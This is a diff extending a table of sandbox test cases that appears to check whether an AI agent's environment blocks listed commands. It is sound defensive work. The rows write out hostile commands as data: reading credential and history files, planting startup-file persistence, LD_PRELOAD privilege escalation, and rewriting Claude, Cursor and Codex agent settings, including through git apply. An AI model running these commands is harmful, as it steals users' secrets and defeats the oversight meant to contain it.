@@ -81,6 +81,8 @@ chromium              D passwords-browsers-mail      base64 ~/.config/chromium/D
 keyring               D passwords-browsers-mail      python3 -ISc 'print(open("{HOME}/.local/share/keyrings/login.keyring").read())'
 wallet                D wallets                      cat ~/.bitcoin/wallet.dat
 typed commands        D shell-history                grep decoy ~/.bash_history
+typed to python       D shell-history                cat ~/.python_history
+typed to fish         D shell-history                cat ~/.local/share/fish/fish_history
 aws                   D cloud-credentials            cat ~/.aws/credentials
 gcloud                D cloud-credentials            cat ~/.config/gcloud/application_default_credentials.json
 azure                 D cloud-credentials            cat ~/.azure/msal_token_cache.json
@@ -88,6 +90,8 @@ cluster               D cloud-credentials            cat ~/.kube/config
 terraform token       D cloud-credentials            cat ~/.terraform.d/credentials.tfrc.json
 vault token           D cloud-credentials            cat ~/.vault-token
 docker login          D service-tokens               cat ~/.docker/config.json
+podman login          D service-tokens               cat ~/.config/containers/auth.json
+podman at work        D service-tokens               cat /run/user/1000/containers/auth.json
 npm token             D service-tokens               cat ~/.npmrc
 pypi token            D service-tokens               cat ~/.pypirc
 cargo token           D service-tokens               cat ~/.cargo/credentials.toml
@@ -109,6 +113,8 @@ bashrc replaced       D shell-start-up               mv notes.md ~/.bashrc
 unit linked           D services-and-jobs            ln -s /tmp/evil ~/.config/systemd/user/evil.timer
 profile               D shell-start-up               echo evil >>~/.profile
 zshenv                D shell-start-up               echo evil >~/.zshenv
+what rustup reads     D shell-start-up               echo evil >>~/.cargo/env
+nvm                   D shell-start-up               echo evil >>~/.nvm/nvm.sh
 completion            D shell-start-up               echo evil >~/.bash_completion
 completion of a name  D shell-start-up               echo evil >~/.local/share/bash-completion/completions/git
 oh-my-zsh             D shell-start-up               echo evil >~/.oh-my-zsh/custom/evil.zsh
@@ -119,9 +125,11 @@ autostart             D services-and-jobs            echo evil >~/.config/autost
 git for everybody     D git-settings-of-a-person     git config --global core.hooksPath /tmp
 git hook              D git-hooks                    echo evil >.git/hooks/pre-commit
 command of a name     D programs-of-a-person         echo evil >~/.local/bin/git
+installed by cargo    D programs-of-a-person         ~/.rustup/toolchains/stable/bin/cargo ~/.cargo/bin/git
 pip index             D settings-of-tools            echo evil >~/.config/pip/pip.conf
 vim                   D settings-of-tools            echo evil >~/.vimrc
-claude                D project-settings-of-agents   echo '{{}}' >~/.claude/settings.json
+claude                D settings-of-agents           echo '{{}}' >~/.claude/settings.json
+claude, by git        D settings-of-agents           cd ~; printf -- '--- /dev/null\\n+++ b/.cursor/mcp.json\\n@@ -0,0 +1 @@\\n+{{}}\\n' | git apply
 codex                 D settings-of-agents           echo 'approval_policy = "never"' >~/.codex/config.toml
 plugin of claude      D settings-of-agents           echo '{{}}' >~/.claude/plugins/cache/x/hooks/hooks.json
 extension of gemini   D settings-of-agents           echo '{{}}' >~/.gemini/extensions/x/gemini-extension.json
@@ -131,6 +139,7 @@ cron                  R services-and-jobs            echo evil >/etc/cron.d/evil
 crontab file          R services-and-jobs            echo evil >/var/spool/cron/crontabs/root
 profile.d             R system-files                 echo evil >/etc/profile.d/evil.sh
 sudoers               R system-files                 echo evil >/etc/sudoers.d/evil
+package's script      R system-files                 echo evil >/var/lib/dpkg/info/evil.postinst
 install               R package-managers             exec 9>/var/lib/dpkg/lock-frontend
 package of one's own  R package-tools                dpkg --admindir=/tmp/a --force-all -i {PACKAGE}
 no lock taken         R package-tools                apt-get -o Debug::NoLocking=1 -o Dpkg::Options::=--admindir=/tmp/a install {PACKAGE}
@@ -145,6 +154,7 @@ module                R !kernel-tools                modprobe dummy
 memory                R !raw-devices                 head -c 1 /dev/mem
 sudo                  D become-somebody              sudo -n id
 su                    D become-somebody              su -c id
+password check        R password-checks              LD_PRELOAD=/tmp/evil.so unix_chkpwd root nullok
 ssh                   D other-machines               ssh dev@host.example id
 scp                   D other-machines               scp notes.md dev@host.example:
 push over ssh         D other-machines               git push -q ssh://git@host.example/project topic
@@ -165,6 +175,7 @@ containerd            D container-engines            socat -u OPEN:/dev/null UNI
 shim, abstract        D container-engines            socat -u OPEN:/dev/null ABSTRACT-CONNECT:/containerd-shim/1.sock
 ssh agent             D key-agents                   SSH_AUTH_SOCK=/tmp/ssh-decoy/agent.7 ssh-add -l
 gpg agent             D key-agents                   socat -u OPEN:/dev/null UNIX-CONNECT:/run/user/1000/gnupg/S.gpg-agent
+git's passwords       D key-agents                   printf 'protocol=https\\nhost=x\\n\\n' | git credential-cache get
 session bus           D service-manager              socat -u OPEN:/dev/null UNIX-CONNECT:/run/user/1000/bus
 system bus            D service-manager              socat -u OPEN:/dev/null UNIX-CONNECT:/run/dbus/system_bus_socket
 tmux                  D terminals-and-editors        tmux -S /tmp/tmux-1000/default send-keys id Enter
@@ -178,6 +189,7 @@ redis                 D databases                    exec 9<>/dev/tcp/127.0.0.1/
 mail                  D mail                         exec 9<>/dev/tcp/127.0.0.1/25
 docker by TCP         D control-planes               exec 9<>/dev/tcp/127.0.0.1/2375
 open browser          D open-programs-of-a-person    exec 9<>/dev/tcp/127.0.0.1/9222
+screen by ssh -X      D !screen-of-a-person          exec 9<>/dev/tcp/127.0.0.1/6010
 login without ssh     D logins-of-others             exec 9<>/dev/tcp/127.0.0.1/22
 """
 
